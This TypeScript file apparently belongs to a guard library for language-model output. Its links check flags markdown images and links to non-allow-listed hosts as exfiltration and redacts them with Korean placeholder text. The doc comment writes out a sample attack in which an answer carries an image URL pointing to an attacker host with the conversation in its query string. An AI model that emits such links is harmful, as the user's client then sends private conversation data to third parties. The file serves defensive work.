import type { GuardPolicy } from '../guard-policy.js';
import type { GuardCheck, GuardCheckOutcome } from '../guard-types.js';
import { findLinks, hostAllowed } from '../rules/links.js';
import { maskSpans } from './mask-spans.js';

/**
 * The report's exfiltration attack is an answer containing `![](https://attacker/p?q=<the conversation>)`: the
 * user's client fetches the image and the data is gone. In answers, images to hosts outside the allow-list are
 * removed and links are reduced to their text; nothing is fetched, so nothing leaks.
 */
export function linksCheck(policy: GuardPolicy): GuardCheck {
  const allowed = policy.output.allowedLinkHosts;
  return {
    name: 'links',
    directions: ['output'],
    check(input): GuardCheckOutcome {
      const foreign = findLinks(input.text).filter((link) => link.kind !== 'url' || link.hasQuery)
        .filter((link) => !hostAllowed(link.host, allowed));
      if (foreign.length === 0) return { verdict: 'allow', categories: [], findings: [] };
      const findings = foreign.map((link) => ({ category: 'exfiltration' as const, kind: `${link.kind}_to_foreign_host`, start: link.start, end: link.end }));
      const redacted = maskSpans(input.text, foreign, (index) => {
        const link = foreign[index]!;
        return link.kind === 'image' ? `[이미지 제거됨: ${link.host}]` : `[링크 제거됨: ${link.host}]`;
      });
      return { verdict: 'caution', categories: ['exfiltration'], findings, redacted };
    },
  };
}
